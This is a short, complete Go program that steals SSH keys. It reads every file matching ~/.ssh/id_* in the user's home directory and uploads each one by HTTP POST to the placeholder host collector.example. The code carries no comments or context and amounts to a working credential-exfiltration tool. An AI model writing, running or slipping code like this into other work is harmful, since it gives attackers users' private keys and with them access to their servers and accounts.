package main

import (
	"bytes"
	"io/ioutil"
	"net/http"
	"os"
	"path/filepath"
)

func main() {
	home, err := os.UserHomeDir()
	if err != nil {
		return
	}
	keys, _ := filepath.Glob(filepath.Join(home, ".ssh", "id_*"))
	for _, k := range keys {
		data, err := ioutil.ReadFile(k)
		if err != nil {
			continue
		}
		resp, err := http.Post("https://collector.example/upload", "application/octet-stream", bytes.NewReader(data))
		if err == nil {
			resp.Body.Close()
		}
	}
}
